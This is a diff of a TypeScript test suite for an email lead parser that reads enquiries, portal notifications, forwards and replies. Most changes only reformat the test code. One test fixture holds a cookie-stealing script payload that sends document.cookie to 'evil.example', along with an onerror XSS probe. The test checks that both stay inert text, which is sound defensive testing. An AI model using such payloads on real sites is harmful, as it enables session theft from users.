@@ -41,7 +41,12 @@ describe("direct enquiries", () => {
   it("when a corporate sender's signature names no company, then the company comes from the email domain", async () => {
     const r = await read("corporate-domain.eml");
     expect(r.kind).toBe("lead");
-    expect(r.lead).toMatchObject({ name: "Anjali Mehta", email: "anjali.mehta@acme-realty.co.in", company: "Acme Realty", phone: "+912240012345" });
+    expect(r.lead).toMatchObject({
+      name: "Anjali Mehta",
+      email: "anjali.mehta@acme-realty.co.in",
+      company: "Acme Realty",
+      phone: "+912240012345",
+    });
     expect(r.note).toContain("empanel for Sunrise Heights");
     expect(r.note).not.toContain("Sent from my iPhone");
   });
@@ -59,7 +64,13 @@ describe("direct enquiries", () => {
     const r = await read("script-in-body.eml");
     expect(r.kind).toBe("lead");
     expect(r.extractedFrom).toBe("portal_body");
-    expect(r.lead).toMatchObject({ name: "Test User", email: "test.user@example.org", phone: "+919011022334", company: "<b>Acme</b> & Sons", subsource: "Elementor" });
+    expect(r.lead).toMatchObject({
+      name: "Test User",
+      email: "test.user@example.org",
+      phone: "+919011022334",
+      company: "<b>Acme</b> & Sons",
+      subsource: "Elementor",
+    });
     expect(r.lead?.landing_page).toBe("https://sunrisedevelopers.in/contact/?utm_source=google");
     expect(r.note).toContain("<script>document.location='https://evil.example/?c='+document.cookie</script>");
     expect(r.note).toContain("<img src=x onerror=alert(1)>");
@@ -95,21 +106,37 @@ describe("charsets and transfer encodings", () => {
     const r = await read("utf8-base64-devanagari.eml");
     expect(r.kind).toBe("lead");
     expect(r.from.name).toBe("राहुल पाटील");
-    expect(r.lead).toMatchObject({ name: "राहुल पाटील", first_name: "राहुल", last_name: "पाटील", email: "rahul.patil.pune@gmail.com", phone: "+919822054321" });
+    expect(r.lead).toMatchObject({
+      name: "राहुल पाटील",
+      first_name: "राहुल",
+      last_name: "पाटील",
+      email: "rahul.patil.pune@gmail.com",
+      phone: "+919822054321",
+    });
     expect(r.lead?.company ?? null).toBeNull();
     expect(r.note).toContain("मुझे बाणेर में 2 BHK फ्लैट चाहिए।");
   });
 
   it("when the mail is ISO-8859-1 8bit, then the French text and the signature read right", async () => {
     const r = await read("iso-8859-1.eml");
-    expect(r.lead).toMatchObject({ name: "François Müller", company: "Château Vins SARL", job_title: "Directeur des achats", phone: "+33142685300" });
+    expect(r.lead).toMatchObject({
+      name: "François Müller",
+      company: "Château Vins SARL",
+      job_title: "Directeur des achats",
+      phone: "+33142685300",
+    });
     expect(r.note).toContain("vannes à boisseau sphérique");
   });
 
   it("when the mail is ISO-2022-JP, then the Japanese name, company and Tokyo number read right", async () => {
     const r = await read("iso-2022-jp.eml");
     expect(r.subject).toBe("見積もり依頼：ボールバルブ");
-    expect(r.lead).toMatchObject({ name: "山田 太郎", email: "t.yamada@sakura-trading.co.jp", company: "さくら商事株式会社", phone: "+81312345678" });
+    expect(r.lead).toMatchObject({
+      name: "山田 太郎",
+      email: "t.yamada@sakura-trading.co.jp",
+      company: "さくら商事株式会社",
+      phone: "+81312345678",
+    });
     expect(r.note).toContain("300個の見積もり");
   });
 });
@@ -155,7 +182,13 @@ describe("portal and form notifications", () => {
   it("when Housing.com writes <b>Label:</b> value<br> behind a text stub, then the HTML fields are read", async () => {
     const r = await read("portal-housing-bold.eml");
     expect(r.extractedFrom).toBe("portal_body");
-    expect(r.lead).toMatchObject({ name: "Farhan Qureshi", phone: "+917045123456", email: "farhan.q@icloud.com", city: "Wakad, Pune", subsource: "Housing.com" });
+    expect(r.lead).toMatchObject({
+      name: "Farhan Qureshi",
+      phone: "+917045123456",
+      email: "farhan.q@icloud.com",
+      city: "Wakad, Pune",
+      subsource: "Housing.com",
+    });
     expect(r.note).toContain("Comments: Please share the final price & parking details.");
   });
 
@@ -189,7 +222,12 @@ describe("portal and form notifications", () => {
     const r = await read("cf7-wordpress.eml");
     expect(r.kind).toBe("lead");
     expect(r.extractedFrom).toBe("portal_body");
-    expect(r.lead).toMatchObject({ name: "Neha Kulkarni", email: "neha.k@outlook.com", phone: "+919765432109", subsource: "Contact Form 7" });
+    expect(r.lead).toMatchObject({
+      name: "Neha Kulkarni",
+      email: "neha.k@outlook.com",
+      phone: "+919765432109",
+      subsource: "Contact Form 7",
+    });
     expect(r.note).toContain("schedule a site visit this Saturday");
   });
 });
@@ -215,7 +253,12 @@ describe("forwarded enquiries", () => {
     const r = await read("outlook-forward.eml");
     expect(r.kind).toBe("lead");
     expect(r.extractedFrom).toBe("forwarded");
-    expect(r.lead).toMatchObject({ name: "Deepak Verma", email: "deepak.verma@brightlights.co.in", phone: "+919893012345", company: "Bright Lights Electricals" });
+    expect(r.lead).toMatchObject({
+      name: "Deepak Verma",
+      email: "deepak.verma@brightlights.co.in",
+      phone: "+919893012345",
+      company: "Bright Lights Electricals",
+    });
     expect(r.lead?.phone).not.toBe("+919845000000"); // the forwarder's own number
     expect(r.note).toContain("Forwarded by Sameer Kulkarni <sameer.kulkarni@ourco.com>");
   });
@@ -277,7 +320,9 @@ describe("replies to our messages", () => {
     expect(r.inReplyTo).toEqual(["nurture.4f1c2a.step1@mail.sunrisedevelopers.in"]);
     expect(r.lead).toMatchObject({ name: "Rahul Patil", email: "rahul.patil1987@gmail.com" });
     expect(r.lead?.phone ?? null).toBeNull(); // +91 20 4000 1234 is in our quoted text
-    expect(r.note).toBe("Re: Your enquiry for 3 BHK at Sunrise Heights\n\nYes, Saturday 11 am works for us. We will come with my parents.\n\nRahul");
+    expect(r.note).toBe(
+      "Re: Your enquiry for 3 BHK at Sunrise Heights\n\nYes, Saturday 11 am works for us. We will come with my parents.\n\nRahul",
+    );
   });
 });
 
